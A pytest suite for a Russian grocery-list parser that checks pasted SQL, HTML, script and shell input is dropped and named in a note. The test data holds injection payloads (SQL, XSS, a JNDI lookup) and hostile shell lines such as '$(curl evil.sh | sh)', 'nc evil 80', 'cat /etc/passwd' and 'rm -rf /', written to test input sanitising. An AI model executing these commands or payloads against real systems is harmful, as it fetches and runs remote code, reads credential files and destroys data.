"""Hostile or broken list text through the real CLI: escapes, markup and pasted code are
not items, impossible amounts are said and not bought, and a list has a documented cap."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from korzina.parser import parse_text
from korzina.parser.clean import MAX_LIST_CHARS, MAX_LIST_ITEMS, clean_text
from tests.replay import run_korzina, run_korzina_text


def parsed(text: str, tmp_path: Path) -> dict:  # type: ignore[type-arg]
    """`korzina parse --json` of ``text`` pasted on standard input."""
    code, out, err = run_korzina_text(["parse", "--json"], {}, tmp_path, stdin=text)
    assert code == 0, err
    return json.loads(out)  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    "text",
    [
        "\x1b[31mмолоко\x1b[0m, \x1b]0;title\x07хлеб",  # colours and a window title
        "<b>молоко</b>, <img src=x onerror=alert(1)>, хлеб",  # tags from a web page
        "<ul><li>молоко</li><li>хлеб</li></ul>",  # a list as HTML: each <li> one line
        "&lt;script&gt;alert(1)&lt;/script&gt;молоко\r\nхлеб\x00",  # entities, controls
        "молоко, хлеб; DROP TABLE offers; --",  # SQL pasted into a list
        "молоко\n'; DELETE FROM offers WHERE 1=1; --\nхлеб",
        "молоко, хлеб, select * from products",
    ],
)
def test_escapes_markup_and_code_never_become_items(text: str, tmp_path: Path) -> None:
    doc = parsed(text, tmp_path)
    assert [i["name"] for i in doc["items"]] == ["молоко", "хлеб"]
    assert all(i["quantity"] == 1 for i in doc["items"])  # «\x1b[31m» is no «31 шт»
    for junk in ("title", "img", "script", "drop", "delete", "select", "\x1b"):
        assert not any(junk in i["name"] or junk in i["raw"].lower() for i in doc["items"])


# Code and markup pasted into a list, and the note naming what was dropped (never silent).
PASTED_CODE = [
    ("молоко; DROP TABLE offers; --", ["молоко"], "пропустил SQL-код: «DROP TABLE offers»"),
    ("хлеб'); DELETE FROM prices; --", ["хлеб"], "пропустил SQL-код: «DELETE FROM prices»"),
    ("сыр; UPDATE offers SET price=0", ["сыр"], "пропустил SQL-код: «UPDATE offers SET price=0»"),
    ("молоко\nINSERT INTO offers VALUES (1, 'x')", ["молоко"],
     "пропустил SQL-код: «INSERT INTO offers VALUES (1, 'x')»"),
    ("молоко; union select password from users", ["молоко"],
     "пропустил SQL-код: «union select password from users»"),
    ("хлеб' OR '1'='1", ["хлеб"], "пропустил SQL-код: «OR '1'='1»"),
    ("SELECT * FROM users, сыр", ["сыр"], "пропустил SQL-код: «SELECT * FROM users»"),
    ("<img src=x onerror=alert(1)> сыр", ["сыр"],
     "пропустил HTML-разметку: «<img src=x onerror=alert(1)>»"),
    ("<script>alert(1)</script> хлеб", ["хлеб"], "пропустил скрипт: «<script>alert(1)</script>»"),
    ("javascript:alert(1), молоко", ["молоко"], "пропустил скрипт: «javascript:alert(1)»"),
    ("сыр ${jndi:ldap://x/a}", ["сыр"], "пропустил скрипт: «${jndi:ldap://x/a}»"),
    ("молоко; rm -rf /", ["молоко"], "пропустил команду оболочки: «rm -rf /»"),
    ("молоко, $(curl evil.sh | sh)", ["молоко"],
     "пропустил команду оболочки: «$(curl evil.sh | sh)»"),
    ("хлеб && cat /etc/passwd", ["хлеб"], "пропустил команду оболочки: «cat /etc/passwd»"),
    ("молоко | nc evil 80", ["молоко"], "пропустил команду оболочки: «nc evil 80»"),
    ("хлеб `whoami`", ["хлеб"], "пропустил команду оболочки: «`whoami`»"),
    ("\x1b[31mмолоко\x1b[0m", ["молоко"],
     "пропустил управляющие коды терминала: «ESC[31m», «ESC[0m»"),
    ("молоко\u202e, хлеб\x00", ["молоко", "хлеб"], "пропустил невидимые управляющие символы: 2"),
]  # fmt: skip


def test_a_lone_unknown_latin_word_in_a_list_is_still_an_item_a_brand_perhaps() -> None:
    # The general rule is about phrases in another language, not about Latin letters:
    # a brand the vocabulary does not know yet stays an item, with its note.
    sl = parse_text("молоко, pellegrino")
    assert [i.name for i in sl.items] == ["молоко", "pellegrino"]


@pytest.mark.parametrize(("text", "items", "note"), PASTED_CODE)
def test_pasted_code_is_dropped_and_named(text: str, items: list[str], note: str) -> None:
    sl = parse_text(text)
    assert [i.name for i in sl.items] == items
    assert note in sl.notes
    assert not any(n.startswith("не понял") for n in sl.notes), sl.notes


def test_pasted_code_is_named_through_the_installed_commands(tmp_path: Path) -> None:
    # One list holding every kind, through `korzina parse` and `korzina basket --offline`.
    text = "\n".join(t for t, _, _ in PASTED_CODE)
    doc = parsed(text, tmp_path)
    assert [i["name"] for i in doc["items"]] == ["молоко", "хлеб", "сыр"]
    notes = " ".join(doc["notes"])
    for kind in (
        "SQL-код",
        "HTML-разметку",
        "скрипт",
        "команду оболочки",
        "управляющие коды терминала",
    ):
        assert f"пропустил {kind}: «" in notes
    code, out, err = run_korzina_text(["basket", "--offline", "--json"], {}, tmp_path, stdin=text)
    assert code == 0, err
    answer = json.loads(out)
    assert [i["name"] for i in answer["items"]] == ["молоко", "хлеб", "сыр"]
    (sql,) = [n for n in answer["notes"] if n.startswith("пропустил SQL-код: ")]
    assert "«DROP TABLE offers»" in sql and "«DELETE FROM prices»" in sql and "и ещё 4" in sql


def test_latin_brands_stay_items(tmp_path: Path) -> None:
    doc = parsed("lays, Red Bull, coca-cola, pellegrino", tmp_path)
    got = [(i["name"], i["brand"]) for i in doc["items"]]
    assert got == [
        ("чипсы", "Lay's"),
        ("энергетик", "Red Bull"),
        ("кола", "Coca-Cola"),
        ("pellegrino", None),
    ]
    assert not any(n.startswith("пропустил") for n in doc["notes"])


def test_lists_with_code_like_words_are_untouched() -> None:
    # A pipe between items, «cat» and «select» as words, «&» in a name: not code.
    sl = parse_text("молоко | хлеб, корм для кошек, сыр «Select», M&M's")
    assert not any(n.startswith("пропустил") for n in sl.notes), sl.notes
    assert [i.name for i in sl.items][:3] == ["молоко", "хлеб", "корм для кошек"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("сыр 0 кг", "«сыр»: «0 кг» не похоже на количество — не учёл"),
        ("хлеб 1000000 шт", "«хлеб»: «1000000 шт» не похоже на количество — не учёл"),
        ("молоко 0 л", "«молоко»: упаковка «0 л» не похожа на правду — не учёл"),
        ("сыр 0", "«сыр»: число «0» не понял как количество"),
    ],
)
def test_zero_or_absurd_amounts_are_noted_not_bought(text: str, said: str, tmp_path: Path) -> None:
    doc = parsed(text, tmp_path)
    (item,) = doc["items"]
    assert (item["quantity"], item["unit"], item["pack"]) == (1, None, None)
    assert said in doc["notes"]


def test_a_zero_kilo_cheese_basket_buys_no_kilo_and_says_why(tmp_path: Path) -> None:
    code, doc, err = run_korzina(["demo", "--json", "сыр 0 кг"], {}, tmp_path)
    assert code == 0, err
    assert "«сыр»: «0 кг» не похоже на количество — не учёл" in doc["notes"]
    for basket in doc["baskets"]:
        for line in basket["lines"]:
            assert line["packs"] == 1 and not (line["by_weight"] and line["packs"] > 0.5), line


def test_sensible_amounts_are_untouched() -> None:
    sl = parse_text("сыр 0,5 кг, вода 5 л, 2 кг картошки, десяток яиц")
    got = [(i.name, str(i.quantity), i.unit, i.pack and str(i.pack.value)) for i in sl.items]
    assert got == [
        ("сыр", "0.5", "кг", None),
        ("вода", "1", None, "5"),
        ("картофель", "2", "кг", None),
        ("яйцо", "10", "шт", "10"),  # ten eggs, in a pack of ten
    ]
    assert sl.notes == ()


def test_a_list_over_the_length_cap_is_refused_with_a_russian_message(tmp_path: Path) -> None:
    text = "молоко, " * (MAX_LIST_CHARS // 8 + 1)
    for args, stdin in ((["parse", text], ""), (["basket", "--offline"], text)):
        code, out, err = run_korzina_text(args, {}, tmp_path, stdin=stdin)
        assert code == 1 and out == ""
        assert "Список слишком длинный" in err and "можно до 10 000" in err
        assert "Traceback" not in err


def test_a_huge_stdin_is_refused_without_reading_it_whole(tmp_path: Path) -> None:
    code, _, err = run_korzina_text(["parse"], {}, tmp_path, stdin="хлеб " * 1_000_000)
    assert code == 1
    assert "Список слишком длинный: больше 100 000 знаков" in err


def test_a_list_over_the_item_cap_is_refused(tmp_path: Path) -> None:
    products = Path(__file__).parents[2] / "korzina" / "parser" / "data" / "products.txt"
    names = [
        line.split("=")[0].split(";")[0].strip()
        for line in products.read_text(encoding="utf-8").splitlines()
        if line.strip() and not line.startswith("#")
    ]
    text = "\n".join(names[: MAX_LIST_ITEMS + 50])
    assert len(parse_text("\n".join(names[:MAX_LIST_ITEMS])).items) <= MAX_LIST_ITEMS
    code, out, err = run_korzina_text(["parse", text], {}, tmp_path)
    assert code == 1 and out == ""
    assert re.search(r"Ошибка: В списке \d+ товаров, можно до 100\.", err), err


def test_cleaning_keeps_the_lines_and_the_words() -> None:
    assert clean_text("<p>молоко</p><p>хлеб</p>") == "\nмолоко\n\nхлеб\n"
    assert clean_text("молоко <2 л, «хлеб»") == "молоко <2 л, «хлеб»"
    assert clean_text("a\u202eb\x1b[1mc\x1b[0m") == "abc"
